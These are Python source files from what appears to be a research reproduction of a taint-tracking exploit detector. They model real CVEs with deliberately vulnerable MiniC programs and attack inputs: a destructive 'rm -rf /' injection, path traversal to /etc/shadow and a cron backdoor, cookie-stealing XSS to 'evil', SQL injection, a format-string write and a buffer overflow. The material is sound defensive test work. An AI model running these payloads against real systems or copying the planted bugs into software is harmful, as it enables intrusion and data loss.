        arena[j] = (h >> 3) & 127;
        j++;
    }
    j = 0;
    while (j < 4096) {
        h = (h ^ (arena[j] + j)) * 131;
        j++;
    }
    int d = 0;
    while (d < 8) {
        int v = (h >> ((7 - d) * 4)) & 15;
        if (v < 10) {
            out[d] = '0' + v;
        } else {
            out[d] = 'a' + (v - 10);
        }
        d++;
    }
    out[8] = 10;
    send(fd, out, 9);
    return 1;
}

int do_get(int fd) {
    int slot = req[4] - '0';
    if (slot < 0 || slot > 7) {
        send_str(fd, "ERR slot\\n");
        return 0;
    }
    // Guest copy loop: these loads trip the speculation guard when
    // the slot's bytes are watched (tainted).
    char *src = slab + slot * 128;
    int n = 0;
    while (src[n] && n < 120) {
        out[n] = src[n];
        n++;
    }
    out[n] = 10;
    send(fd, out, n + 1);
    // Scrub the echo buffer: a tainted value leaves tainted bytes in
    // ``out``, and an unscrubbed copy would put ``out`` inside every
    // later epoch's watch (tripping each SUM's digest store).
    memset(out, 0, 256);
    return 1;
}

int do_exec(int fd) {
    int slot = req[5] - '0';
    if (slot < 0 || slot > 7) {
        send_str(fd, "ERR slot\\n");
        return 0;
    }
    strcpy(cmd, "run ");
    char *src = slab + slot * 128;
    int n = 4;
    int i = 0;
    while (src[i] && n < 200) {
        cmd[n] = src[i];
        n++;
        i++;
    }
    cmd[n] = 0;
    system(cmd);
    memset(cmd, 0, 256);
    send_str(fd, "DONE\\n");
    return 1;
}

int serve(int fd) {
    int n = recv(fd, req, 500);
    if (n <= 0) {
        return 0;
    }
    req[n] = 0;
    if (strncmp(req, "SUM", 3) == 0) {
        return do_sum(fd);
    }
    if (strncmp(req, "PUT ", 4) == 0) {
        return store_value(fd, 0);
    }
    if (strncmp(req, "STOR ", 5) == 0) {
        return store_value(fd, 1);
    }
    if (strncmp(req, "GET ", 4) == 0) {
        return do_get(fd);
    }
    if (strncmp(req, "EXEC ", 5) == 0) {
        return do_exec(fd);
    }
    send_str(fd, "ERR verb\\n");
    return 0;
}

int main() {
    int j = 0;
    while (j < 4096) {
        arena[j] = (j * 37 + 11) & 127;
        j++;
    }
    int fd;
    while ((fd = accept()) >= 0) {
        served += serve(fd);
    }
    return served;
}
"""


def put_request(slot: int, value: bytes) -> bytes:
    """Store a clean value."""
    return b"PUT %d %s" % (slot, value)


def stor_request(slot: int, value: bytes) -> bytes:
    """Store a value and taint it (the app-level trust boundary)."""
    return b"STOR %d %s" % (slot, value)


def sum_request() -> bytes:
    """The clean compute request (the speculative fast path)."""
    return b"SUM"


def get_request(slot: int) -> bytes:
    """Echo a slot back (guard trip when the slot is tainted)."""
    return b"GET %d" % slot


def exec_request(slot: int) -> bytes:
    """system('run <value>') — H4 fires on tainted shell metachars."""
    return b"EXEC %d" % slot


#: A value whose shell metacharacter makes EXEC an H4 command injection.
INJECTION_VALUE = b"report.txt;rm -rf /"
#: A boring tainted value: GETs of it trip the guard but alert nothing.
BENIGN_VALUE = b"hello world record"


def contained_mix(sums: int = 12) -> List[bytes]:
    """Perf mix: one tainted store, then clean compute requests.

    After the ``STOR`` the machine is never taint-free again, so a
    plain adaptive build tracks every following request; speculation
    runs them all on the fast copy and never trips.
    """
    return [stor_request(0, BENIGN_VALUE)] + [sum_request()] * sums


def misspec_mix(sums: int = 6) -> List[bytes]:
    """Detection mix: seeded guard trips and one real injection.

    ``GET 0`` trips on the watched slot and replays clean (benign
    rollback); ``EXEC 0`` trips, replays tracked, and H4 fires at the
    ``system`` use point with track-accurate pc/origins.
    """
    requests = [stor_request(0, INJECTION_VALUE)]
    requests += [sum_request()] * (sums // 2)
    requests.append(get_request(0))
    requests += [sum_request()] * (sums - sums // 2)
    requests.append(exec_request(0))
    requests.append(sum_request())
    return requests
