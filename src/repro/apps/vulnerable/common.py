"""Shared structure for the Table 2 vulnerable applications.

Each entry models one of the paper's real-world CVEs: a MiniC analogue
of the vulnerable program, a benign input scenario (used to check for
false positives) and an attack scenario (crafted exploit input), plus a
predicate that checks whether the attack actually *succeeded* when run
without SHIFT protection — so the harness can show attacks work on the
unprotected program and are detected on the protected one.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Callable, Dict, Optional, Tuple

from repro.runtime.machine import Machine
from repro.taint.policy import PolicyConfig


@dataclass(frozen=True)
class Scenario:
    """One run's inputs: stdin, filesystem contents, network requests."""

    stdin: bytes = b""
    files: Tuple[Tuple[str, bytes], ...] = ()
    requests: Tuple[bytes, ...] = ()

    def file_dict(self) -> Dict[str, bytes]:
        """Files as a mutable dict for Machine construction."""
        return dict(self.files)


@dataclass(frozen=True)
class VulnerableApp:
    """One row of the paper's Table 2."""

    name: str
    cve: str
    language: str  # language of the original program
    attack_type: str
    #: High-level policies to enable on top of the default low-level ones.
    detection_policies: Tuple[str, ...]
    #: Policy expected to raise the alert.
    expected_policy: str
    source: str
    benign: Scenario
    attack: Scenario
    document_root: str = "/www"
    #: Given an *unprotected* machine after the attack run, did the
    #: exploit achieve its goal?
    compromised: Optional[Callable[[Machine], bool]] = None

    def policy_config(self) -> PolicyConfig:
        """Low-level defaults plus this app's high-level policies."""
        config = PolicyConfig()
        config.enable(*self.detection_policies)
        config.settings.document_root = self.document_root
        return config

    def prepare(self, machine: Machine, scenario: Scenario) -> None:
        """Install a scenario's inputs into a loaded machine."""
        machine.os.stdin = scenario.stdin
        for path, data in scenario.files:
            machine.fs.write(path, data)
        for request in scenario.requests:
            machine.net.add_request(request)
