"""Directory-traversal vulnerabilities: GNU Tar, GNU Gzip, Qwikiwiki.

All three CVEs share the bug class: a file name taken from untrusted
input (archive member, compressed-file header, HTTP query parameter) is
passed to the filesystem without sanitisation.  Policies H1 (no tainted
absolute path) and H2 (no tainted path escaping the document root)
detect them at the ``open`` use point.
"""

from __future__ import annotations

from repro.apps.vulnerable.common import Scenario, VulnerableApp

# --- GNU Tar 1.4 (CVE-2001-1267): archive member names are used
# verbatim, so an absolute member name escapes the extraction directory.
_TAR_SOURCE = """
native int open(char *path, int flags);
native int read(int fd, char *buf, int n);
native int write(int fd, char *buf, int n);
native int close(int fd);

char name[128];
char data[256];
char outpath[256];
int entries;

int extract_entry(int fd) {
    // Entry format: "name\\n<size>\\n<size bytes>"
    int ni = 0;
    char c[8];
    while (read(fd, c, 1) == 1 && c[0] != 10 && ni < 120) {
        name[ni] = c[0];
        ni++;
    }
    if (ni == 0) {
        return 0;
    }
    name[ni] = 0;
    int size = 0;
    while (read(fd, c, 1) == 1 && c[0] != 10) {
        size = size * 10 + (c[0] - '0');
    }
    if (size > 250) {
        size = 250;
    }
    int got = read(fd, data, size);
    // BUG: absolute member names are not rejected.
    if (name[0] == '/') {
        strcpy(outpath, name);
    } else {
        strcpy(outpath, "/extract/");
        strcat(outpath, name);
    }
    int out = open(outpath, 1);
    write(out, data, got);
    close(out);
    entries++;
    return 1;
}

int main() {
    int fd = open("/archive.tar", 0);
    if (fd < 0) {
        return 1;
    }
    while (extract_entry(fd)) {
    }
    close(fd);
    return 0;
}
"""


def _tar_archive(*entries):
    blob = b""
    for name, data in entries:
        blob += name + b"\n" + str(len(data)).encode() + b"\n" + data
    return blob


TAR = VulnerableApp(
    name="tar",
    cve="CVE-2001-1267",
    language="C",
    attack_type="Directory Traversal",
    detection_policies=("H1",),
    expected_policy="H1",
    source=_TAR_SOURCE,
    benign=Scenario(files=(
        ("/archive.tar", _tar_archive((b"docs/readme.txt", b"hello tar"))),
    )),
    attack=Scenario(files=(
        ("/archive.tar", _tar_archive(
            (b"docs/readme.txt", b"decoy"),
            (b"/etc/cron.d/backdoor", b"* * * * * root /bin/evil"),
        )),
    )),
    compromised=lambda machine: machine.fs.exists("/etc/cron.d/backdoor"),
)

# --- GNU Gzip 1.2.4 (CVE-2001-1228): the original file name stored in
# the compressed stream is honoured on decompression ("gunzip -N").
_GZIP_SOURCE = """
native int open(char *path, int flags);
native int read(int fd, char *buf, int n);
native int write(int fd, char *buf, int n);
native int close(int fd);

char origname[128];
char payload[512];

int main() {
    int fd = open("/input.gz", 0);
    if (fd < 0) {
        return 1;
    }
    // Header: magic byte, then the NUL-terminated original file name.
    char c[8];
    read(fd, c, 1);
    int ni = 0;
    while (read(fd, c, 1) == 1 && c[0] != 0 && ni < 120) {
        origname[ni] = c[0];
        ni++;
    }
    origname[ni] = 0;
    int n = read(fd, payload, 500);
    close(fd);
    // "Decompress" (the kernel models byte-unstuffing).
    int i;
    for (i = 0; i < n; i++) {
        payload[i] = (char)(payload[i] ^ 42);
    }
    // BUG: restore to the embedded name without sanitising it.
    char dest[256];
    if (origname[0] == '/') {
        strcpy(dest, origname);
    } else {
        strcpy(dest, "/extract/");
        strcat(dest, origname);
    }
    int out = open(dest, 1);
    write(out, payload, n);
    close(out);
    return 0;
}
"""


def _gzip_blob(name: bytes, payload: bytes) -> bytes:
    stuffed = bytes(b ^ 42 for b in payload)
    return b"\x1f" + name + b"\x00" + stuffed


GZIP_VULN = VulnerableApp(
    name="gzip",
    cve="CVE-2001-1228",
    language="C",
    attack_type="Directory Traversal",
    detection_policies=("H1",),
    expected_policy="H1",
    source=_GZIP_SOURCE,
    benign=Scenario(files=(
        ("/input.gz", _gzip_blob(b"notes.txt", b"some notes")),
    )),
    attack=Scenario(files=(
        ("/input.gz", _gzip_blob(b"/etc/passwd", b"root::0:0::/:/bin/sh")),
    )),
    compromised=lambda machine: machine.fs.read("/etc/passwd") is not None,
)

# --- Qwikiwiki 1.4.1 (CVE-2006-0983, PHP): the page parameter is joined
# to the pages directory, so "../" sequences escape the document root.
_QWIKIWIKI_SOURCE = """
native int accept();
native int recv(int fd, char *buf, int n);
native int send(int fd, char *buf, int n);
native int open(char *path, int flags);
native int read(int fd, char *buf, int n);
native int close(int fd);

char request[512];
char page[256];
char path[512];
char body[1024];

int serve(int fd) {
    int n = recv(fd, request, 500);
    if (n <= 0) {
        return -1;
    }
    request[n] = 0;
    // Extract the ?page= parameter.
    char *p = strstr(request, "page=");
    if (!p) {
        send(fd, "HTTP/1.0 400 Bad Request\\r\\n\\r\\n", 30);
        return 0;
    }
    p = p + 5;
    int i = 0;
    while (*p && *p != ' ' && *p != '&' && i < 200) {
        page[i] = *p;
        i++;
        p++;
    }
    page[i] = 0;
    // BUG: no check for ".." traversal in the page name.
    strcpy(path, "/www/pages/");
    strcat(path, page);
    int f = open(path, 0);
    if (f < 0) {
        send(fd, "HTTP/1.0 404 Not Found\\r\\n\\r\\n", 28);
        return 0;
    }
    int len = read(f, body, 1000);
    close(f);
    send(fd, "HTTP/1.0 200 OK\\r\\n\\r\\n", 21);
    send(fd, body, len);
    return 0;
}

int main() {
    int fd;
    int served = 0;
    while ((fd = accept()) >= 0) {
        serve(fd);
        served++;
    }
    return served;
}
"""

QWIKIWIKI = VulnerableApp(
    name="qwikiwiki",
    cve="CVE-2006-0983",
    language="PHP",
    attack_type="Directory Traversal",
    detection_policies=("H2",),
    expected_policy="H2",
    source=_QWIKIWIKI_SOURCE,
    document_root="/www",
    benign=Scenario(
        files=(("/www/pages/home", b"Welcome to the wiki"),),
        requests=(b"GET /index.php?page=home HTTP/1.0\r\n\r\n",),
    ),
    attack=Scenario(
        files=(
            ("/www/pages/home", b"Welcome to the wiki"),
            ("/etc/shadow", b"root:$1$secret$hash:19000::::::"),
        ),
        requests=(b"GET /index.php?page=../../etc/shadow HTTP/1.0\r\n\r\n",),
    ),
    compromised=lambda machine: any(
        b"secret" in bytes(conn.outbound) for conn in machine.net.completed
    ),
)
