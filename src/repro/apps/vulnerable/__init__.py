"""Vulnerable applications (paper Table 2 + the Figure 1 example)."""

from repro.apps.vulnerable.common import Scenario, VulnerableApp
from repro.apps.vulnerable.servers import BFTPD, QWIK_SMTPD
from repro.apps.vulnerable.traversal import GZIP_VULN, QWIKIWIKI, TAR
from repro.apps.vulnerable.web import PHPMYFAQ, PHPSYSINFO, PHP_STATS, SCRY

#: The eight Table 2 rows, in the paper's order.
TABLE2_APPS = (TAR, GZIP_VULN, QWIKIWIKI, SCRY, PHP_STATS, PHPSYSINFO,
               PHPMYFAQ, BFTPD)

#: The Figure 1 running example (not part of Table 2).
FIGURE1_APP = QWIK_SMTPD

__all__ = [
    "BFTPD", "FIGURE1_APP", "GZIP_VULN", "PHPMYFAQ", "PHPSYSINFO",
    "PHP_STATS", "QWIKIWIKI", "QWIK_SMTPD", "SCRY", "Scenario",
    "TABLE2_APPS", "TAR", "VulnerableApp",
]
