"""Web-application vulnerabilities: XSS (Scry, php-stats, phpSysInfo)
and SQL injection (phpMyFAQ).

The XSS apps echo an untrusted request parameter into the HTML
response; policy H5 fires when a tainted ``<script`` tag reaches the
network.  The SQLi app splices a parameter into a query string; policy
H3 fires on tainted SQL metacharacters at the query use point.
"""

from __future__ import annotations

from repro.apps.vulnerable.common import Scenario, VulnerableApp

#: Shared HTTP plumbing for the PHP-style applications.
_HTTP_PRELUDE = """
native int accept();
native int recv(int fd, char *buf, int n);
native int send(int fd, char *buf, int n);

char request[512];
char param[256];
char response[2048];

int get_param(char *key) {
    char *p = strstr(request, key);
    if (!p) {
        return 0;
    }
    p = p + strlen(key);
    int i = 0;
    while (*p && *p != ' ' && *p != '&' && i < 200) {
        param[i] = *p;
        i++;
        p++;
    }
    param[i] = 0;
    return 1;
}

int send_response(int fd) {
    send(fd, "HTTP/1.0 200 OK\\r\\nContent-Type: text/html\\r\\n\\r\\n", 47);
    send(fd, response, strlen(response));
    return 0;
}
"""

_SERVER_MAIN = """
int main() {
    int fd;
    int served = 0;
    while ((fd = accept()) >= 0) {
        int n = recv(fd, request, 500);
        if (n > 0) {
            request[n] = 0;
            handle(fd);
            served++;
        }
    }
    return served;
}
"""

# --- Scry 1.1 (CVE-2007-1503): the gallery echoes the album parameter.
_SCRY_SOURCE = _HTTP_PRELUDE + """
int handle(int fd) {
    response[0] = 0;
    strcat(response, "<html><h1>Scry Gallery</h1><p>Album: ");
    if (get_param("album=")) {
        // BUG: the parameter is not HTML-escaped.
        strcat(response, param);
    } else {
        strcat(response, "(all)");
    }
    strcat(response, "</p></html>");
    send_response(fd);
    return 0;
}
""" + _SERVER_MAIN

SCRY = VulnerableApp(
    name="scry",
    cve="CVE-2007-1503",
    language="PHP",
    attack_type="Cross Site Scripting",
    detection_policies=("H5",),
    expected_policy="H5",
    source=_SCRY_SOURCE,
    benign=Scenario(requests=(b"GET /scry.php?album=vacation HTTP/1.0\r\n\r\n",)),
    attack=Scenario(requests=(
        b"GET /scry.php?album=<script>document.location='http://evil/'+document.cookie</script> HTTP/1.0\r\n\r\n",
    )),
    compromised=lambda machine: any(
        b"<script>" in bytes(conn.outbound) for conn in machine.net.completed
    ),
)

# --- php-stats 0.1.9.1b (CVE-2006-0972): echoes a stats page parameter.
_PHP_STATS_SOURCE = _HTTP_PRELUDE + """
int handle(int fd) {
    response[0] = 0;
    strcat(response, "<html><title>php-stats</title><body>");
    if (get_param("page=")) {
        strcat(response, "<p>Statistics for page: ");
        strcat(response, param);   // BUG: unescaped echo
        strcat(response, "</p>");
    }
    strcat(response, "<p>Visits today: 1234</p></body></html>");
    send_response(fd);
    return 0;
}
""" + _SERVER_MAIN

PHP_STATS = VulnerableApp(
    name="php-stats",
    cve="CVE-2006-0972",
    language="PHP",
    attack_type="Cross Site Scripting",
    detection_policies=("H5",),
    expected_policy="H5",
    source=_PHP_STATS_SOURCE,
    benign=Scenario(requests=(b"GET /php-stats.php?page=/index.html HTTP/1.0\r\n\r\n",)),
    attack=Scenario(requests=(
        b"GET /php-stats.php?page=<ScRiPt>alert(42)</ScRiPt> HTTP/1.0\r\n\r\n",
    )),
    compromised=lambda machine: any(
        b"<ScRiPt>" in bytes(conn.outbound) for conn in machine.net.completed
    ),
)

# --- phpSysInfo 2.3 (CVE-2005-0870): reflects the lng/template values.
_PHPSYSINFO_SOURCE = _HTTP_PRELUDE + """
int handle(int fd) {
    response[0] = 0;
    strcat(response, "<html><h2>System Information</h2>");
    strcat(response, "<p>Uptime: 42 days</p>");
    if (get_param("lng=")) {
        strcat(response, "<p>Unknown language: ");
        strcat(response, param);   // BUG: reflected without escaping
        strcat(response, "</p>");
    }
    strcat(response, "</html>");
    send_response(fd);
    return 0;
}
""" + _SERVER_MAIN

PHPSYSINFO = VulnerableApp(
    name="phpsysinfo",
    cve="CVE-2005-0870",
    language="PHP",
    attack_type="Cross Site Scripting",
    detection_policies=("H5",),
    expected_policy="H5",
    source=_PHPSYSINFO_SOURCE,
    benign=Scenario(requests=(b"GET /index.php?lng=en HTTP/1.0\r\n\r\n",)),
    attack=Scenario(requests=(
        b"GET /index.php?lng=<script>document.write(evil)</script> HTTP/1.0\r\n\r\n",
    )),
    compromised=lambda machine: any(
        b"<script" in bytes(conn.outbound) for conn in machine.net.completed
    ),
)

# --- phpMyFAQ 1.6.8 (CVE-2007-2338 class): the FAQ id parameter is
# concatenated into the SQL query string.
_PHPMYFAQ_SOURCE = _HTTP_PRELUDE + """
native int sql_exec(char *q);

char query[512];

int handle(int fd) {
    response[0] = 0;
    strcat(response, "<html><h1>FAQ</h1>");
    if (get_param("id=")) {
        query[0] = 0;
        strcat(query, "SELECT question, answer FROM faq WHERE id = '");
        strcat(query, param);    // BUG: no quoting/escaping
        strcat(query, "'");
        sql_exec(query);
        strcat(response, "<p>Result for entry ");
        strcat(response, param);
        strcat(response, "</p>");
    }
    strcat(response, "</html>");
    send_response(fd);
    return 0;
}
""" + _SERVER_MAIN

PHPMYFAQ = VulnerableApp(
    name="phpmyfaq",
    cve="CVE-2007-2338",
    language="PHP",
    attack_type="SQL Command Injection",
    detection_policies=("H3",),
    expected_policy="H3",
    source=_PHPMYFAQ_SOURCE,
    benign=Scenario(requests=(b"GET /faq.php?id=42 HTTP/1.0\r\n\r\n",)),
    attack=Scenario(requests=(
        b"GET /faq.php?id=0'+UNION+SELECT+login,pass+FROM+users;-- HTTP/1.0\r\n\r\n",
    )),
    compromised=lambda machine: any(
        "UNION" in q for q in machine.executed_queries
    ),
)
