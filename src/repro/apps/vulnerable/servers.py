"""Server vulnerabilities: Bftpd (format string) and qwik-smtpd
(the paper's Figure 1 buffer overflow).
"""

from __future__ import annotations

from repro.apps.vulnerable.common import Scenario, VulnerableApp
from repro.runtime.machine import Machine

_READLINE = """
char line[256];

int readline(int fd) {
    int i = 0;
    char c[4];
    int got = recv(fd, c, 1);
    if (got <= 0) {
        return -1;
    }
    while (got == 1 && c[0] != 10) {
        if (c[0] != 13 && i < 250) {
            line[i] = c[0];
            i++;
        }
        got = recv(fd, c, 1);
    }
    line[i] = 0;
    return i;
}
"""

# --- Bftpd < 0.96: user-controlled data reaches a printf-style format
# string ("arbitrary code execution via format string specifiers").
# The %n directive writes through an attacker-positioned pointer; the
# store through a tainted address trips policy L2.
_BFTPD_SOURCE = """
native int accept();
native int recv(int fd, char *buf, int n);
native int send(int fd, char *buf, int n);
""" + _READLINE + """
int admin_mode;
int site_value;
char logbuf[768];

int handle(int fd) {
    send(fd, "220 bftpd ready\\r\\n", 17);
    while (readline(fd) >= 0) {
        if (strncmp(line, "QUIT", 4) == 0) {
            send(fd, "221 bye\\r\\n", 9);
            return 0;
        }
        if (strncmp(line, "USER ", 5) == 0) {
            send(fd, "331 password please\\r\\n", 21);
        } else if (strncmp(line, "SITE ", 5) == 0) {
            site_value = atoi(line + 5);
            send(fd, "200 site ok\\r\\n", 13);
        } else {
            send(fd, "500 unknown\\r\\n", 13);
        }
        // BUG: the raw client line is used as the format string.
        format_str(logbuf, line, site_value, 0, 0, 0);
    }
    return 0;
}

int main() {
    int fd;
    while ((fd = accept()) >= 0) {
        handle(fd);
    }
    return admin_mode;
}
"""


def _bftpd_attack(machine: Machine) -> Scenario:
    """Point %n's argument at the server's admin flag."""
    target = machine.address_of("admin_mode")
    payload = (
        b"USER haxor\r\n"
        + b"SITE " + str(target).encode() + b"\r\n"
        # The filler makes %n write a non-zero count through the pointer.
        + b"AAAAAAAA%n\r\n"
        + b"QUIT\r\n"
    )
    return Scenario(requests=(payload,))


BFTPD = VulnerableApp(
    name="bftpd",
    cve="(no CVE; Bftpd < 0.96)",
    language="C",
    attack_type="Format string attack",
    detection_policies=(),  # L2 is a default low-level policy
    expected_policy="L2",
    source=_BFTPD_SOURCE,
    benign=Scenario(requests=(b"USER bob\r\nSITE 100\r\nQUIT\r\n",)),
    attack=_bftpd_attack,
    compromised=lambda machine: machine.read_global("admin_mode") != 0,
)

# --- qwik-smtpd 0.3 (paper Figure 1): no length check on the HELO
# argument, so a long argument overflows clientHELO into localip and
# defeats the relay check.  SHIFT marks localip critical and inserts a
# taint check before the relay decision (paper sections 2.1 and 3.3.3).
_QWIK_SMTPD_SOURCE = """
native int accept();
native int recv(int fd, char *buf, int n);
native int send(int fd, char *buf, int n);
native int is_tainted(char *p);
native void console_log(char *s);
""" + _READLINE + """
char clientHELO[32];
char localip[64];
char clientip[64];
int relayed;

int relay_allowed() {
    // Exploit detection inserted by SHIFT: localip is critical data
    // (taint source rule 5: specific memory locations must stay clean).
    if (is_tainted(localip)) {
        console_log("ALERT: tainted data reached localip");
        return -1;
    }
    if (strcasecmp(clientip, "127.0.0.1") == 0) {
        return 1;
    }
    if (strcasecmp(clientip, localip) == 0) {
        return 1;
    }
    return 0;
}

int handle(int fd) {
    strcpy(localip, "192.168.0.1");
    strcpy(clientip, "10.7.7.7");
    send(fd, "220 qwik-smtpd\\r\\n", 16);
    while (readline(fd) >= 0) {
        if (strncmp(line, "QUIT", 4) == 0) {
            send(fd, "221 bye\\r\\n", 9);
            return 0;
        }
        if (strncmp(line, "HELO ", 5) == 0) {
            // BUG: no check of the argument length (paper Fig. 1 line 5).
            strcpy(clientHELO, line + 5);
            send(fd, "250 hello\\r\\n", 12);
        } else if (strncmp(line, "RELAY ", 6) == 0) {
            int verdict = relay_allowed();
            if (verdict > 0) {
                relayed = relayed + 1;
                send(fd, "250 relayed\\r\\n", 14);
            } else if (verdict < 0) {
                send(fd, "554 security alert\\r\\n", 21);
                return 99;
            } else {
                send(fd, "554 relaying denied\\r\\n", 22);
            }
        } else {
            send(fd, "250 ok\\r\\n", 8);
        }
    }
    return 0;
}

int main() {
    int fd;
    int status = 0;
    while ((fd = accept()) >= 0) {
        status = handle(fd);
    }
    if (relayed > 0) {
        return 1;
    }
    return status;
}
"""

#: Filler to cross clientHELO[32], then the attacker's own address so
#: the overwritten localip equals clientip and the relay check passes.
_OVERFLOW_ARG = b"A" * 32 + b"10.7.7.7"

QWIK_SMTPD = VulnerableApp(
    name="qwik-smtpd",
    cve="(paper Fig. 1; qwik-smtpd 0.3)",
    language="C",
    attack_type="Buffer overflow enabling open relay",
    detection_policies=(),
    expected_policy="critical-data taint check",
    source=_QWIK_SMTPD_SOURCE,
    benign=Scenario(requests=(
        b"HELO mail.example.com\r\nRELAY victim@example.net\r\nQUIT\r\n",
    )),
    attack=Scenario(requests=(
        b"HELO " + _OVERFLOW_ARG + b"\r\nRELAY victim@example.net\r\nQUIT\r\n",
    )),
    compromised=lambda machine: machine.read_global("relayed") != 0,
)
