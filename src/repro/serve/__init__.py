"""repro.serve: production serving — open-loop load, latency, autoscaling.

Every earlier harness measured *closed-loop batch throughput*: queue a
batch, divide by cycles.  That number says nothing about what a
million-user deployment experiences, which is **tail latency under
open-loop arrivals** — requests show up on their own schedule, queue
when the fleet is busy, and the p99 is the product.  This package
makes that measurable, wall-clock-free:

* :mod:`repro.serve.loadgen` — seeded heavy-tailed arrival schedules:
  lognormal inter-arrivals, keep-alive sessions with consistent-hash
  affinity keys, phased offered load, optional attack mix.
* :mod:`repro.serve.simclock` — the event-driven serving loop.  Worker
  cycle budgets are *measured* (each distinct payload runs once, for
  real, on a recover-mode Machine) and replayed under a simulated
  clock; requests queue at the :class:`~repro.fleet.frontend
  .FleetFrontend` and record enqueue/dispatch/complete stamps, giving
  p50/p95/p99 latency and queue-depth series, bit-reproducible per
  seed.
* :mod:`repro.serve.autoscaler` — a deterministic EWMA queue-depth
  controller: spawn recover-mode workers past the high-water mark,
  drain (unroutable → queue empties → retire) below the low-water
  mark.
* :mod:`repro.serve.wallclock` — the same workload on real OS
  processes with ``perf_counter`` stamps, the non-gated reality check.

``python -m repro.harness.servebench`` sweeps offered load across the
knee and emits ``BENCH_serve.json``.
"""

from repro.serve.autoscaler import Autoscaler, AutoscalerConfig
from repro.serve.loadgen import (
    ATTACK_KINDS,
    LoadConfig,
    LoadPhase,
    ServeRequest,
    describe,
    generate,
    offered_duration,
)
from repro.serve.simclock import (
    RequestRecord,
    ServeResult,
    ServeSim,
    ServiceCost,
    ServiceModel,
    SimClock,
    percentile,
)
from repro.serve.wallclock import run_wallclock

__all__ = [
    "ATTACK_KINDS",
    "Autoscaler",
    "AutoscalerConfig",
    "LoadConfig",
    "LoadPhase",
    "RequestRecord",
    "ServeRequest",
    "ServeResult",
    "ServeSim",
    "ServiceCost",
    "ServiceModel",
    "SimClock",
    "describe",
    "generate",
    "offered_duration",
    "percentile",
    "run_wallclock",
]
